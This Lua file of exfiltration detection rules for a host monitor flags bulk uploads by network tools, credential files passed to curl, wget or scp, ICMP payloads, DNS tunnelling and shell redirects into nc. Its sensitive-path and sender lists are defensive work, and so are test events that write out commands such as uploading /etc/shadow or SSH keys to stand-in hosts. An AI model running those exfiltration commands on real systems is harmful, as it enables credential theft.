-- Exfiltration (ATT&CK TA0010): bulk data sent off the host by tools that
-- are not its usual senders, sensitive files handed to upload commands,
-- data hidden in ICMP.

local basename, startswith, contains = tapio.basename, tapio.startswith, tapio.contains

local function off_host(addr)
  return addr ~= nil and addr ~= "" and not startswith(addr, "127.") and addr ~= "::1"
      and not startswith(addr, "::ffff:127.") and addr ~= "0.0.0.0" and addr ~= "::"
end

-- Programs that send what they are given: network tools, interpreters, shells.
local SENDERS = tapio.set { "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "socat",
                            "curl", "wget", "openssl", "telnet", "ftp", "tftp", "python",
                            "python3", "perl", "ruby", "php", "node", "lua", "bash", "sh",
                            "dash", "zsh", "busybox", "powershell", "pwsh", "gawk", "awk" }
local BULK = 1024 * 1024

rule {
  name = "bulk_upload_by_network_tool",
  desc = "A network tool, interpreter or shell sent a megabyte or more off this host on "
      .. "one connection while receiving little: data leaving (tar | nc, curl -T, a "
      .. "python socket)",
  events = { "network.close" },
  severity = "warning",
  importance = 0.8,
  tags = { "mitre:T1048", "mitre:T1041", "mitre:T1030" },
  when = function(e)
    local sent = e.bytes_sent or 0
    if sent < BULK or sent < 8 * (e.bytes_received or 0) or not off_host(e.daddr) then
      return false
    end
    local name = e.comm:match("^(%a+)") or e.comm
    return SENDERS[e.comm] ~= nil or SENDERS[name] ~= nil
  end,
  output = "${bytes_sent} bytes sent to ${daddr}:${dport} (${bytes_received} received) by "
        .. "${comm} (pid ${pid}, exe ${exe}, uid ${uid}, parent ${parent.comm} pid ${ppid}); "
        .. "container ${container.id}, pod ${k8s.namespace}/${k8s.pod}; command: ${argv}",
  tests = {
    { event = { type = "network.close", comm = "nc", daddr = "203.0.113.9", dport = 443,
                bytes_sent = 5000000, bytes_received = 10 }, expect = true },
    { event = { type = "network.close", comm = "python3.11", daddr = "10.1.2.3", dport = 8080,
                bytes_sent = 2000000, bytes_received = 0 }, expect = true },
    { event = { type = "network.close", comm = "curl", daddr = "203.0.113.9", dport = 443,
                bytes_sent = 500, bytes_received = 5000000 }, expect = false },
    { event = { type = "network.close", comm = "nc", daddr = "127.0.0.1", dport = 443,
                bytes_sent = 5000000, bytes_received = 10 }, expect = false },
    { event = { type = "network.close", comm = "rsync", daddr = "10.1.2.3", dport = 22,
                bytes_sent = 5000000, bytes_received = 10 }, expect = false },
  },
}

-- Files worth stealing.
local SENSITIVE = { "/etc/shadow", "/etc/gshadow", "/etc/passwd", "/etc/sudoers", "/.ssh/",
                    "id_rsa", "id_ed25519", "id_ecdsa", "/.aws/", "/.azure/", "/.config/gcloud",
                    "/.kube/", "/.docker/config.json", "/.gnupg/", "_history", "/.netrc",
                    "/.pgpass", "/.git-credentials", ".env", "/etc/kubernetes/", "wallet.dat",
                    "/var/run/secrets/", "/.vault-token", "credentials" }

local function sensitive(path)
  for _, s in ipairs(SENSITIVE) do
    if contains(path, s) then return s end
  end
  return nil
end

-- The local files an upload command sends.
local function uploaded_files(e)
  local name, argv, out = basename(e.filename), e.argv, {}
  for i = 2, #argv do
    local a, nxt = argv[i], argv[i + 1]
    if name == "curl" then
      if (a == "-T" or a == "--upload-file") and nxt then out[#out + 1] = nxt end
      if (a == "-F" or a == "--form") and nxt then out[#out + 1] = nxt:match("=[@<](.*)$") end
      if (a == "-d" or a == "--data" or a == "--data-binary" or a == "--data-raw"
          or a == "--data-urlencode") and nxt then
        out[#out + 1] = nxt:match("^@(.*)$") or nxt:match("=@(.*)$")
      end
    elseif name == "wget" then
      out[#out + 1] = a:match("^%-%-post%-file=(.*)$") or a:match("^%-%-body%-file=(.*)$")
      if (a == "--post-file" or a == "--body-file") and nxt then out[#out + 1] = nxt end
    elseif name == "scp" or name == "rsync" or name == "sftp" then
      if not startswith(a, "-") and not a:find(":", 1, true) then out[#out + 1] = a end
    end
  end
  return out
end

rule {
  name = "sensitive_file_uploaded",
  desc = "An upload command was given a file worth stealing (password hashes, SSH keys, "
      .. "cloud and Kubernetes credentials, shell history, .env): curl -T / -F @ / -d @, "
      .. "wget --post-file, scp and rsync to a remote host",
  events = { "process.exec" },
  match = { ret = 0, filename_base = { "curl", "wget", "scp", "rsync" } },
  severity = "error",
  importance = 0.9,
  tags = { "mitre:T1048", "mitre:T1567", "mitre:T1552.001" },
  when = function(e)
    local name = basename(e.filename)
    if name ~= "curl" and name ~= "wget" and name ~= "scp" and name ~= "rsync" then
      return false
    end
    if (name == "scp" or name == "rsync") and not e.cmdline:find("[%w%]]:") then
      return false -- a local copy
    end
    for _, f in ipairs(uploaded_files(e)) do
      if f and sensitive(f) then return true end
    end
    return false
  end,
  output = "sensitive file uploaded: ${argv} (pid ${pid}, uid ${uid}, parent ${parent.comm} pid "
        .. "${ppid}, container ${container.id}, pod ${k8s.namespace}/${k8s.pod})",
  tests = {
    { event = { type = "process.exec", comm = "curl", filename = "/usr/bin/curl",
                argv = { "curl", "-F", "f=@/etc/shadow", "https://x.test/u" } }, expect = true },
    { event = { type = "process.exec", comm = "curl", filename = "/usr/bin/curl",
                argv = { "curl", "-T", "/root/.ssh/id_rsa", "ftp://x.test/" } }, expect = true },
    { event = { type = "process.exec", comm = "wget", filename = "/usr/bin/wget",
                argv = { "wget", "--post-file=/home/a/.aws/credentials", "http://x.test/" } },
      expect = true },
    { event = { type = "process.exec", comm = "scp", filename = "/usr/bin/scp",
                argv = { "scp", "/home/a/.kube/config", "u@10.0.0.9:/tmp/" } }, expect = true },
    { event = { type = "process.exec", comm = "curl", filename = "/usr/bin/curl",
                argv = { "curl", "-d", "@payload.json", "https://api.test/" } }, expect = false },
    { event = { type = "process.exec", comm = "scp", filename = "/usr/bin/scp",
                argv = { "scp", "/etc/passwd", "/tmp/x" } }, expect = false },
  },
}

rule {
  name = "data_in_icmp_payload",
  desc = "ping was given a payload pattern (-p) or an unusually large packet: data smuggled "
      .. "out in ICMP echo requests",
  events = { "process.exec" },
  match = { ret = 0, filename_base = { "ping", "ping6" } },
  severity = "warning",
  importance = 0.75,
  tags = { "mitre:T1048.003", "mitre:T1095" },
  when = function(e)
    local name = basename(e.filename)
    if name ~= "ping" and name ~= "ping6" then return false end
    local argv = e.argv
    for i = 2, #argv do
      local a = argv[i]
      if a == "-p" or a:find("^%-p%x") then return true end
      if a == "-s" and tonumber(argv[i + 1] or "") and tonumber(argv[i + 1]) > 1024 then
        return true
      end
    end
    return false
  end,
  output = "ICMP payload: ${argv} (pid ${pid}, uid ${uid}, parent ${parent.comm} pid ${ppid}, "
        .. "container ${container.id}, pod ${k8s.namespace}/${k8s.pod})",
  tests = {
    { event = { type = "process.exec", comm = "ping", filename = "/usr/bin/ping",
                argv = { "ping", "-c1", "-p", "726f6f743a783a30", "10.0.0.9" } }, expect = true },
    { event = { type = "process.exec", comm = "ping", filename = "/usr/bin/ping",
                argv = { "ping", "-s", "60000", "10.0.0.9" } }, expect = true },
    { event = { type = "process.exec", comm = "ping", filename = "/usr/bin/ping",
                argv = { "ping", "-c", "3", "10.0.0.9" } }, expect = false },
  },
}

-- The registered part of a name, roughly: its last two labels
-- ("a.b.evil.example" -> "evil.example").
local function parent_domain(qname)
  return qname and qname:match("([^.]+%.[^.]+)%.?$")
end

-- Resolver tools a shell loop runs once per query.
local DNS_TOOLS = tapio.set { "dig", "host", "nslookup", "drill", "kdig", "delv", "resolvectl",
                              "getent", "ping", "curl", "wget" }

-- A first label that looks like data rather than a host name: 8 or more hex
-- digits, or 16 or more letters and digits with a digit among them.
local function data_label(qname)
  local l = qname:match("^([^.]+)%.")
  if l == nil or l:find("%d") == nil then return false end
  return (#l >= 8 and l:find("^%x+$") ~= nil) or (#l >= 16 and l:find("^[%w_-]+$") ~= nil)
end

local function dns_queries(n, name_of, extra)
  local ev = {}
  for i = 1, n do
    ev[i] = { type = "network.dns", comm = "x", qtype = 1, qname = name_of(i) }
    for k, v in pairs(extra and extra(i) or {}) do ev[i][k] = v end
  end
  return ev
end

rule {
  name = "dns_exfiltration_burst",
  desc = "Thirty or more different names under one domain asked within a minute by one "
      .. "process, or by the dig/host/nslookup runs of one loop when the names carry data "
      .. "(hex, base32 labels): data split into DNS queries (dnscat, iodine, DNS beacons), "
      .. "even with short labels",
  events = { "network.dns" },
  severity = "warning",
  importance = 0.85,
  tags = { "mitre:T1048.003", "mitre:T1071.004" },
  state = { names = tapio.distinct { window = "60s", max_values = 256 } },
  when = function(e, s)
    local domain = parent_domain(e.qname)
    if domain == nil then return false end
    local n, new = s.names:add(e.pid .. ">" .. domain, e.qname)
    local hit = new and n == 30
    -- by its program: dig's queries come from a thread named isc-net-0000
    if DNS_TOOLS[basename(e.exe or "")] and data_label(e.qname) then
      local m, lnew = s.names:add(e.ppid .. ">>" .. domain, e.qname)
      hit = hit or (lnew and m == 30)
    end
    return hit
  end,
  output = "30 different names under ${qname} asked by ${comm} (pid ${pid}, exe ${exe}, uid "
        .. "${uid}, parent ${parent.comm} pid ${ppid}) within a minute, to ${daddr}:${dport}; "
        .. "container ${container.id}, pod ${k8s.namespace}/${k8s.pod}",
  tests = {
    { events = dns_queries(30, function(i) return "c" .. i .. ".t.exfil.example" end),
      expect = 30 },
    { events = dns_queries(30, function(i) return "www.site" .. i .. ".example" .. i end),
      expect = false },
    -- a dig per chunk from one loop
    { events = dns_queries(30, function(i) return string.format("%08x.%d.exfil.example", i * 7919, i) end,
                           function(i) return { comm = "isc-net-0000", exe = "/usr/bin/dig", pid = 800 + i,
                                                ppid = 80 } end),
      expect = 30 },
    -- an admin's loop over the web servers
    { events = dns_queries(30, function(i) return "web" .. i .. ".corp.example" end,
                           function(i) return { comm = "dig", exe = "/usr/bin/dig", pid = 800 + i,
                                                ppid = 80 } end),
      expect = false },
  },
}

local NET_SENDERS = { "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "socat", "curl",
                      "telnet", "openssl", "ssh", "scp", "ftp", "tftp" }

rule {
  name = "sensitive_file_sent_over_network",
  desc = "A file worth stealing was opened by a shell that then became a network client: "
      .. "`nc host port < /etc/shadow`, `curl --data-binary @- ... < ~/.ssh/id_rsa`",
  events = { "file.open", "process.exec" },
  severity = "error",
  importance = 0.9,
  tags = { "mitre:T1048", "mitre:T1041", "mitre:T1552.001" },
  -- a shell's own opens (its < redirects); the network clients it becomes
  match = { ["file.open"] = { comm = SHELLS }, ["process.exec"] = { filename_base = NET_SENDERS } },
  state = { opened = tapio.map { ttl = "5s" } },
  -- a network client's exec reaches when only from a shell that opened one
  recall = { ["process.exec"] = "opened" },
  when = function(e, s)
    if e.type == "file.open" then
      if e.ret >= 0 and (e.flags & 3) == 0 and sensitive(e.path) then -- read-only
        s.opened:set(e, true)
      end
      return false
    end
    return e.ret == 0 and s.opened:get(e) == true
  end,
  output = "a sensitive file fed to ${filename}: ${argv} (pid ${pid}, uid ${uid}, parent "
        .. "${parent.comm} pid ${ppid}, container ${container.id}, pod ${k8s.namespace}/${k8s.pod})",
  tests = {
    { events = { { type = "file.open", comm = "bash", pid = 90, path = "/etc/shadow", flags = 0 },
                 { type = "process.exec", comm = "nc", pid = 90, filename = "/bin/nc",
                   argv = { "nc", "10.0.0.1", "9" } } }, expect = 2 },
    -- cat opening it is not a redirect of the shell (match: comm)
    { events = { { type = "file.open", comm = "cat", pid = 90, path = "/etc/shadow", flags = 0 },
                 { type = "process.exec", comm = "nc", pid = 90, filename = "/bin/nc",
                   argv = { "nc", "10.0.0.1", "9" } } }, expect = false },
    { events = { { type = "file.open", comm = "bash", pid = 90, path = "/etc/hosts", flags = 0 },
                 { type = "process.exec", comm = "nc", pid = 90, filename = "/bin/nc",
                   argv = { "nc", "10.0.0.1", "9" } } }, expect = false },
  },
}
